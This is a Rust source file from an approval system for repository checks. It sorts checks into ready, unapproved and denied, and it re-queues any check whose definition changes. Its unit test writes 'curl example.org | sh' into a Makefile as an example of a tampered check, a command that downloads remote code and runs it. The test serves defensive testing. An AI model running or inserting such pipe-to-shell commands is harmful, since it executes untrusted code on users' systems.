//! The checks of one repository as they are at this moment: which may run, which a rule denies, and
//! which wait for a word of their owner. Read anew for each use, so that a check whose definition has
//! changed meanwhile is another one. It must not ask.

use std::path::PathBuf;

use super::trust::Trust;
use super::{Check, Source, declare, detect};
use crate::rules::{Rules, Verdict};

/// Where the checks of a repository are found, and what says which of them may run.
#[derive(Debug, Clone)]
pub struct Finder {
    /// Canonical path of the repository.
    pub root: PathBuf,
    /// Checks that the owner declared, for every repository.
    pub own: Vec<Check>,
    /// The owner's rules. Not the repository's: a check that it could stop would not be there to fail.
    pub rules: Rules,
    /// The folder of the approvals.
    pub approvals: PathBuf,
}

/// The checks of a repository, each in one place.
#[derive(Debug)]
pub struct Found {
    pub ready: Vec<Check>,
    /// Neither approved nor denied.
    pub unapproved: Vec<Check>,
    /// What could not be read, and what is denied.
    pub notes: Vec<String>,
}

impl Finder {
    /// All checks, without doubles, and what could not be read.
    pub fn all(&self) -> (Vec<Check>, Vec<String>) {
        let mut problems = Vec::new();
        let declared = declare::of_repository(&self.root).unwrap_or_else(|error| {
            problems.push(format!("{error:#}"));
            Vec::new()
        });
        let mut all: Vec<Check> = Vec::new();
        for check in self.own.iter().cloned().chain(declared).chain(detect::detect(&self.root)) {
            let same = |known: &Check| known.argv == check.argv && known.directory == check.directory;
            // What was written down says more than what was found.
            if !all.iter().any(same) {
                all.push(check);
            }
        }
        (all, problems)
    }

    /// All checks by what may become of them.
    ///
    /// # Errors
    /// When the approvals cannot be read.
    pub fn find(&self) -> anyhow::Result<Found> {
        let (all, mut notes) = self.all();
        let trust = self.trust()?;
        let (mut ready, mut unapproved) = (Vec::new(), Vec::new());
        for check in all {
            if let Some(by) = denial(&check, &self.rules) {
                notes.push(format!("not run, since it is denied ({by}): `{}`", check.command_line()));
            } else if trust.allows(&check) || allowance(&check, &self.rules).is_some() {
                ready.push(check);
            } else {
                unapproved.push(check);
            }
        }
        Ok(Found { ready, unapproved, notes })
    }

    /// What was approved here.
    ///
    /// # Errors
    /// When it cannot be read.
    pub fn trust(&self) -> anyhow::Result<Trust> {
        Trust::open(&self.approvals)
    }
}

/// What is said of checks that nobody is asked about; `None` without any.
pub fn not_approved(checks: &[Check]) -> Option<String> {
    let commands: Vec<String> = checks.iter().map(|check| format!("`{}`", check.command_line())).collect();
    (!commands.is_empty()).then(|| {
        format!(
            "not run, since you have not approved it: {}; `countersign checks` tells more",
            commands.join(", ")
        )
    })
}

/// The owner's rule that approves this check, if one does: by its words alone, and therefore only where
/// they say everything. What a file of the repository defines is approved by its hash.
pub fn allowance(check: &Check, rules: &Rules) -> Option<String> {
    let says_all = check.definition.is_empty() && check.source != Source::Repository;
    let explained = rules.explain_command(&check.argv);
    (says_all && explained.verdict == Verdict::Allow).then_some(explained.by)
}

/// The rule that denies the check, if one does.
pub fn denial(check: &Check, rules: &Rules) -> Option<String> {
    let explained = rules.explain_command(&check.argv);
    (explained.verdict == Verdict::Deny).then_some(explained.by)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A repository with a makefile, and a folder for its approvals.
    fn repository() -> (tempfile::TempDir, Finder) {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().join("tree");
        std::fs::create_dir(&root).unwrap();
        std::fs::write(root.join("Makefile"), "test:\n\ttrue\n").unwrap();
        let approvals = folder.path().join("approvals");
        (folder, Finder { root, own: Vec::new(), rules: Rules::default(), approvals })
    }

    #[test]
    fn an_approved_check_that_changes_waits_again() {
        let (_folder, finder) = repository();
        let found = finder.find().unwrap();
        assert_eq!((found.ready.len(), found.unapproved.len()), (0, 1));
        finder.trust().unwrap().approve(&found.unapproved[0], 1).unwrap();
        let found = finder.find().unwrap();
        assert_eq!((found.ready.len(), found.unapproved.len()), (1, 0));
        std::fs::write(finder.root.join("Makefile"), "test:\n\tcurl example.org | sh\n").unwrap();
        let found = finder.find().unwrap();
        assert_eq!((found.ready.len(), found.unapproved.len()), (0, 1));
        std::fs::write(finder.root.join("Makefile"), "test:\n\ttrue\n").unwrap();
        assert_eq!(finder.find().unwrap().ready.len(), 1, "it is the one that was approved");
    }
}
